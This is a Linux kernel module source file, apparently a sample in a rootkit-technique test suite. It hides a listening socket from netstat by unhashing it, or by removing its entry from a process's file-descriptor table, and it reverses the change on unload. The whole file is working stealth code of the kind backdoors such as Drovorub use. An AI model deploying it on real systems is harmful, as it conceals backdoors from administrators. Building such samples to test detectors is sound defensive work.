// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a listening socket is taken out of the table that netstat shows (how=table), or out of the files of the process
 * `pid` that has it open (how=owner). Who: backdoors that unhash their port
 * (Drovorub's and suterusu's aim, without a hook).
 * Changes: the hash list of the listener at `socket`. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <net/sock.h>
#include <net/tcp_states.h>

KERNEL_SYMBOL(inet_unhash);
KERNEL_SYMBOL(inet_hash);
static unsigned long socket;
module_param(socket, ulong, 0);

VARIANT("table");
static int pid;
module_param(pid, int, 0);

static struct sock *listener;
static struct task_struct *task;
static struct file *file;
static unsigned int place;

static int leave_files(void)
{
	struct fdtable *table;

	rcu_read_lock();
	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	rcu_read_unlock();
	if (!task || !task->files)
		return -ESRCH;
	table = rcu_dereference_raw(task->files->fdt);
	for (place = 0; place < table->max_fds; ++place) {
		file = rcu_dereference_raw(table->fd[place]);
		if (!file || !listener->sk_socket || file != listener->sk_socket->file)
			continue;
		rcu_assign_pointer(table->fd[place], NULL);
		return 0;
	}
	return -ESRCH;
}

static int __init start(void)
{
	listener = (struct sock *)socket;
	if (!listener || !inet_unhash_at || !inet_hash_at || listener->sk_state != TCP_LISTEN)
		return -ESRCH;
	if (HOW("owner"))
		return leave_files();
	sock_hold(listener);
	((void (*)(struct sock *))inet_unhash_at)(listener);
	return 0;
}

static void __exit stop(void)
{
	if (HOW("owner")) {
		rcu_assign_pointer(rcu_dereference_raw(task->files->fdt)->fd[place], file);
		put_task_struct(task);
		return;
	}
	((int (*)(struct sock *))inet_hash_at)(listener);
	sock_put(listener);
}

ATTACK(start, stop);
